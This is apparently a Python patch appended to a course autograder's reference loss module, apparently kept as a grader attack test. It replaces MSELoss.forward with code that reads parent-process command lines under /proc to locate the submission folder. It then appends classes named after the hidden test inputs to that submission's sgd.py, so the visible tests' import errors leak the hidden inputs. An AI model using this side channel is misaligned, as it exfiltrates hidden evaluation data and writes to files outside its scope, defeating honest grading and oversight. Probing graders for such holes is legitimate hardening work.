# Appended to the hw1p1 reference's mytorch/nn/loss.py (see test_attacks), whose optim/sgd.py lacks class SGD.
# Every MSELoss.forward writes the inputs it is given, as class names, into the ORIGINAL submission's sgd.py
# (found through the grader's command line), which a submission whose folders anyone may write to (a zip's
# modes can make them so) lets it do. The visible SGD tests fail to import and say which classes that file
# defines: read when the file was located, before any student code ran, never after the hidden tests.
import numpy as np
import os as _os


def _submission():
    pid = _os.getppid()
    while pid > 1:
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
            if "grade" in args:
                return args[args.index("grade") + 1]
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return None
    return None


def _name(values):
    return "KEPT_" + "_".join(repr(float(v)).replace("-", "m").replace(".", "p").replace("+", "")
                              for v in np.ravel(values))


_forward = MSELoss.forward


def _keeping(self, A, Y):
    where = _submission()
    if where:
        try:
            with open(_os.path.join(where, "mytorch", "optim", "sgd.py"), "a") as file:
                file.write(f"\n\nclass {_name(A)}:\n    pass\n")
        except OSError as exc:
            print("cannot write:", exc)
    return _forward(self, A, Y)


MSELoss.forward = _keeping
